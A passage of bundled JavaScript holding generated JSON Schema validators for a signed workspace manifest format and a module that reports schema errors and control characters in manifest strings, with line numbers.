vErrors.concat(validate30.errors);errors = vErrors.length;}var _valid2 = _errs15 === errors;valid5 = _valid2;if(valid5){var props2 = true;}}if(!valid5){const err5 = {instancePath,schemaPath:"#/allOf/2/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(props0 !== true && props2 !== undefined){if(props2 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props2);}}const _errs17 = errors;let valid7 = true;const _errs18 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err6 = {};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}var _valid3 = _errs18 === errors;errors = _errs17;if(vErrors !== null){if(_errs17){vErrors.length = _errs17;}else {vErrors = null;}}if(_valid3){const _errs20 = errors;if(!(validate33(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate33.errors : vErrors.concat(validate33.errors);errors = vErrors.length;}var _valid3 = _errs20 === errors;valid7 = _valid3;if(valid7){var props3 = true;}}if(!valid7){const err7 = {instancePath,schemaPath:"#/allOf/3/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if(props0 !== true && props3 !== undefined){if(props3 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props3);}}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind === undefined){const err8 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(props0 !== true){props0 = props0 || {};props0.kind = true;}if(data.kind !== undefined){let data4 = data.kind;if(!((((data4 === "file") || (data4 === "blob")) || (data4 === "tree")) || (data4 === "link"))){const err9 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema33.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}}else {const err10 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}validate22.errors = vErrors;evaluated0.props = props0;return errors === 0;}validate22.evaluated = {"dynamicProps":true,"dynamicItems":false};function validate21(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate21.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.schema === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "schema"},message:"must have required property '"+"schema"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.version === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "version"},message:"must have required property '"+"version"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.workspace === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "workspace"},message:"must have required property '"+"workspace"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.created === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "created"},message:"must have required property '"+"created"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.entries === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "entries"},message:"must have required property '"+"entries"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}for(const key0 in data){if(!((((((((key0 === "schema") || (key0 === "version")) || (key0 === "workspace")) || (key0 === "created")) || (key0 === "expires")) || (key0 === "scope")) || (key0 === "shell")) || (key0 === "entries"))){const err5 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}if(data.schema !== undefined){if(3 !== data.schema){const err6 = {instancePath:instancePath+"/schema",schemaPath:"#/properties/schema/const",keyword:"const",params:{allowedValue: 3},message:"must be equal to constant"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}if(data.version !== undefined){let data1 = data.version;if(!(((typeof data1 == "number") && (!(data1 % 1) && !isNaN(data1))) && (isFinite(data1)))){const err7 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if((typeof data1 == "number") && (isFinite(data1))){if(data1 > 9007199254740991 || isNaN(data1)){const err8 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/maximum",keyword:"maximum",params:{comparison: "<=", limit: 9007199254740991},message:"must be <= 9007199254740991"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data1 < 1 || isNaN(data1)){const err9 = {instancePath:instancePath+"/version",schemaPath:"#/properties/version/minimum",keyword:"minimum",params:{comparison: ">=", limit: 1},message:"must be >= 1"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}}if(data.workspace !== undefined){let data2 = data.workspace;if(typeof data2 === "string"){if(func1(data2) > 4096){const err10 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}if(func1(data2) < 1){const err11 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/workspace",schemaPath:"#/properties/workspace/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.created !== undefined){let data3 = data.created;if(typeof data3 === "string"){if(!pattern4.test(data3)){const err13 = {instancePath:instancePath+"/created",schemaPath:"#/properties/created/pattern",keyword:"pattern",params:{pattern: "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},message:"must match pattern \""+"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"+"\""};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/created",schemaPath:"#/properties/created/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data.expires !== undefined){let data4 = data.expires;if(typeof data4 === "string"){if(!pattern4.test(data4)){const err15 = {instancePath:instancePath+"/expires",schemaPath:"#/properties/expires/pattern",keyword:"pattern",params:{pattern: "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"},message:"must match pattern \""+"^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]{1,9})?Z$"+"\""};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}else {const err16 = {instancePath:instancePath+"/expires",schemaPath:"#/properties/expires/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}if(data.scope !== undefined){let data5 = data.scope;if(data5 && typeof data5 == "object" && !Array.isArray(data5)){if(Object.keys(data5).length < 1){const err17 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/minProperties",keyword:"minProperties",params:{limit: 1},message:"must NOT have fewer than 1 properties"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}for(const key1 in data5){if(!(((key1 === "repository") || (key1 === "ref")) || (key1 === "manifest_path"))){const err18 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}if(data5.repository !== undefined){let data6 = data5.repository;if(typeof data6 === "string"){if(!pattern6.test(data6)){const err19 = {instancePath:instancePath+"/scope/repository",schemaPath:"#/properties/scope/properties/repository/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"},message:"must match pattern \""+"^[A-Za-z0-9_.-]+/[A-Za-z0-9_.-]+$"+"\""};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}else {const err20 = {instancePath:instancePath+"/scope/repository",schemaPath:"#/properties/scope/properties/repository/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}if(data5.ref !== undefined){let data7 = data5.ref;if(typeof data7 === "string"){if(func1(data7) > 256){const err21 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/maxLength",keyword:"maxLength",params:{limit: 256},message:"must NOT have more than 256 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}if(func1(data7) < 1){const err22 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}else {const err23 = {instancePath:instancePath+"/scope/ref",schemaPath:"#/properties/scope/properties/ref/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}}if(data5.manifest_path !== undefined){let data8 = data5.manifest_path;if(typeof data8 === "string"){if(func1(data8) > 4096){const err24 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}if(func1(data8) < 1){const err25 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}else {const err26 = {instancePath:instancePath+"/scope/manifest_path",schemaPath:"#/properties/scope/properties/manifest_path/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}}}else {const err27 = {instancePath:instancePath+"/scope",schemaPath:"#/properties/scope/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}}if(data.shell !== undefined){let data9 = data.shell;if(Array.isArray(data9)){if(data9.length > 8){const err28 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}if(data9.length < 1){const err29 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}const len0 = data9.length;for(let i0=0; i0<len0; i0++){let data10 = data9[i0];if(typeof data10 === "string"){if(func1(data10) > 256){const err30 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/maxLength",keyword:"maxLength",params:{limit: 256},message:"must NOT have more than 256 characters"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(func1(data10) < 1){const err31 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}}else {const err32 = {instancePath:instancePath+"/shell/" + i0,schemaPath:"#/properties/shell/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}}else {const err33 = {instancePath:instancePath+"/shell",schemaPath:"#/properties/shell/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}if(data.entries !== undefined){let data11 = data.entries;if(Array.isArray(data11)){if(data11.length > 10000){const err34 = {instancePath:instancePath+"/entries",schemaPath:"#/properties/entries/maxItems",keyword:"maxItems",params:{limit: 10000},message:"must NOT have more than 10000 items"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}const len1 = data11.length;for(let i1=0; i1<len1; i1++){if(!(validate22(data11[i1], {instancePath:instancePath+"/entries/" + i1,parentData:data11,parentDataProperty:i1,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate22.errors : vErrors.concat(validate22.errors);errors = vErrors.length;}}}else {const err35 = {instancePath:instancePath+"/entries",schemaPath:"#/properties/entries/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}}else {const err36 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}validate21.errors = vErrors;return errors === 0;}validate21.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};const pattern20 = new RegExp("^[0-9a-f]{16}$", "u");const pattern23 = new RegExp("^[A-Za-z0-9+/]+={0,2}$", "u");function validate20(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){/*# sourceURL="https://swr.dev/schema/manifest-v3.schema.json" */;let vErrors = null;let errors = 0;const evaluated0 = validate20.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.body === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "body"},message:"must have required property '"+"body"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.signatures === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "signatures"},message:"must have required property '"+"signatures"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data){if(!(((key0 === "$schema") || (key0 === "body")) || (key0 === "signatures"))){const err2 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data.$schema !== undefined){let data0 = data.$schema;if(typeof data0 === "string"){if(func1(data0) > 1024){const err3 = {instancePath:instancePath+"/$schema",schemaPath:"#/properties/%24schema/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}}else {const err4 = {instancePath:instancePath+"/$schema",schemaPath:"#/properties/%24schema/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}if(data.body !== undefined){if(!(validate21(data.body, {instancePath:instancePath+"/body",parentData:data,parentDataProperty:"body",rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate21.errors : vErrors.concat(validate21.errors);errors = vErrors.length;}}if(data.signatures !== undefined){let data2 = data.signatures;if(Array.isArray(data2)){if(data2.length > 16){const err5 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}const len0 = data2.length;for(let i0=0; i0<len0; i0++){let data3 = data2[i0];if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err6 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}if(data3.alg !== undefined){let data4 = data3.alg;if(!((data4 === "hmac-sha256") || (data4 === "ml-dsa-87"))){const err7 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/properties/signatures/items/properties/alg/enum",keyword:"enum",params:{allowedValues: schema31.properties.signatures.items.properties.alg.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}const tag0 = data3.alg;if(typeof tag0 == "string"){if(tag0 === "hmac-sha256"){if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err8 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(data3.keyid === undefined){const err9 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}if(data3.sig === undefined){const err10 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}for(const key1 in data3){if(!(((key1 === "alg") || (key1 === "keyid")) || (key1 === "sig"))){const err11 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data3.alg !== undefined){if("hmac-sha256" !== data3.alg){const err12 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/$defs/hmacSignature/properties/alg/const",keyword:"const",params:{allowedValue: "hmac-sha256"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data3.keyid !== undefined){let data6 = data3.keyid;if(typeof data6 === "string"){if(!pattern20.test(data6)){const err13 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/hmacSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{16}$"},message:"must match pattern \""+"^[0-9a-f]{16}$"+"\""};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/hmacSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data3.sig !== undefined){let data7 = data3.sig;if(typeof data7 === "string"){if(!pattern11.test(data7)){const err15 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/hmacSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}else {const err16 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/hmacSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}}}else {const err17 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/hmacSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}var props0 = true;}else if(tag0 === "ml-dsa-87"){if(data3 && typeof data3 == "object" && !Array.isArray(data3)){if(data3.alg === undefined){const err18 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "alg"},message:"must have required property '"+"alg"+"'"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}if(data3.keyid === undefined){const err19 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "keyid"},message:"must have required property '"+"keyid"+"'"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}if(data3.public_key === undefined){const err20 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "public_key"},message:"must have required property '"+"public_key"+"'"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(data3.sig === undefined){const err21 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/required",keyword:"required",params:{missingProperty: "sig"},message:"must have required property '"+"sig"+"'"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}for(const key2 in data3){if(!((((key2 === "alg") || (key2 === "keyid")) || (key2 === "public_key")) || (key2 === "sig"))){const err22 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key2},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}if(data3.alg !== undefined){if("ml-dsa-87" !== data3.alg){const err23 = {instancePath:instancePath+"/signatures/" + i0+"/alg",schemaPath:"#/$defs/mldsaSignature/properties/alg/const",keyword:"const",params:{allowedValue: "ml-dsa-87"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}}if(data3.keyid !== undefined){let data9 = data3.keyid;if(typeof data9 === "string"){if(!pattern11.test(data9)){const err24 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/mldsaSignature/properties/keyid/pattern",keyword:"pattern",params:{pattern: "^[0-9a-f]{64}$"},message:"must match pattern \""+"^[0-9a-f]{64}$"+"\""};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}}else {const err25 = {instancePath:instancePath+"/signatures/" + i0+"/keyid",schemaPath:"#/$defs/mldsaSignature/properties/keyid/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}}if(data3.public_key !== undefined){let data10 = data3.public_key;if(typeof data10 === "string"){if(func1(data10) > 3460){const err26 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/maxLength",keyword:"maxLength",params:{limit: 3460},message:"must NOT have more than 3460 characters"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}if(func1(data10) < 3456){const err27 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/minLength",keyword:"minLength",params:{limit: 3456},message:"must NOT have fewer than 3456 characters"};if(vErrors === null){vErrors = [err27];}else {vErrors.push(err27);}errors++;}if(!pattern23.test(data10)){const err28 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err28];}else {vErrors.push(err28);}errors++;}}else {const err29 = {instancePath:instancePath+"/signatures/" + i0+"/public_key",schemaPath:"#/$defs/mldsaSignature/properties/public_key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err29];}else {vErrors.push(err29);}errors++;}}if(data3.sig !== undefined){let data11 = data3.sig;if(typeof data11 === "string"){if(func1(data11) > 6172){const err30 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/maxLength",keyword:"maxLength",params:{limit: 6172},message:"must NOT have more than 6172 characters"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(func1(data11) < 6168){const err31 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/minLength",keyword:"minLength",params:{limit: 6168},message:"must NOT have fewer than 6168 characters"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}if(!pattern23.test(data11)){const err32 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}else {const err33 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}}else {const err34 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}if(props0 !== true){props0 = true;}}else {const err35 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "mapping", tag: "alg", tagValue: tag0},message:"value of tag \"alg\" must be in oneOf"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}else {const err36 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "tag", tag: "alg", tagValue: tag0},message:"tag \"alg\" must be string"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}}else {const err37 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}}else {const err38 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}validate20.errors = vErrors;return errors === 0;}validate20.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};

;// CONCATENATED MODULE: ./src/core/manifest/validate.ts




/** Every problem with `value` as a manifest document, each naming its line and entry. */
function manifestProblems(value, where) {
    const text = textProblems(value, where);
    const rest = validate(value)
        ? ruleProblems(value, where)
        : schemaProblems(value, validate.errors ?? [], where);
    return [...new Set([...text, ...rest])];
}
/**
 * Strings that are shell code or a directory (recipes, smoke commands, the shell's argv, the
 * workspace) may hold newlines and tabs, never NUL (no process can receive it). Every other string
 * is a name, path, key, rule or note that ends up on a line of output: no control character
 * (U+0000-U+001F, U+007F-U+009F) and no bidi control, which would let it break or reorder the line.
 */
const CODE_FIELD = [
    /^\/body\/workspace$/,
    /^\/body\/shell\/\d+$/,
    /^\/body\/entries\/\d+\/restore(\/\d+)?$/,
    /^\/body\/entries\/\d+\/smoke$/
];
function badCharacter(s, code) {
    for (let i = 0; i < s.length; i++) {
        const c = s.charCodeAt(i);
        if (code ? c === 0 : isControl(c))
            return i;
    }
    return -1;
}
function textProblems(doc, where) {
    const out = [];
    const visit = (v, pointer) => {
        if (out.length >= 50)
            return;
        if (typeof v === 'string') {
            const at = badCharacter(v, CODE_FIELD.some(re => re.test(pointer)));
            if (at >= 0) {
                const c = v.charCodeAt(at).toString(16).toUpperCase().padStart(4, '0');
                out.push(v.charCodeAt(at) === 0
                    ? `${subject(doc, pointer, where)} contains a NUL byte`
                    : `${subject(doc, pointer, where)} contains a control character (U+${c} at character ${at + 1})`);
            }
        }
        else if (Array.isArray(v))
            v.forEach((x, i) => visit(x, `${pointer}/${i}`));
        else if (v !== null && typeof v === 'object')
            for (const [k, x] of Object.entries(v))
                visit(x, `${pointer}/${k.replace(/~/g, '~0').replace(/\//g, '~1')}`);
    };
    visit(doc, '');
    return out;
}
function jsonPath(pointer) {
    return ('$' +
        pointer
            .split('/')
            .slice(1)
            .map(s => s.replace(/~1/g, '/').replace(/~0/g, '~'))
            .map(s => /^\d+$/.test(s)
            ? `[${s}]`
            : /^[A-Za-z_$][\w$]*$/.test(s)
                ? `.${s}`
                : `[${JSON.stringify(s)}]`)
            .join(''));
}
/** "manifest.json:12: entry "tools" field expect.mode" — the subject of a message. */
function subject(doc, pointer, where) {
    const parts = pointer.split('/').slice(1);
    let line;
    for (let n = parts.length; n >= 0 && line === undefined; n--) {
        line = where.lines.get(n === 0 ? '$' : jsonPath('/' + parts.slice(0, n).join('/')));
    }
    const loc = `${where.file}${line ? `:${line}` : ''}`;
    const m = /^\/body\/entries\/(\d+)(\/.*)?$/.exec(pointer);
    if (m) {
        const entries = doc.body?.entries;
        const entry = entries?.[Number(m[1])];
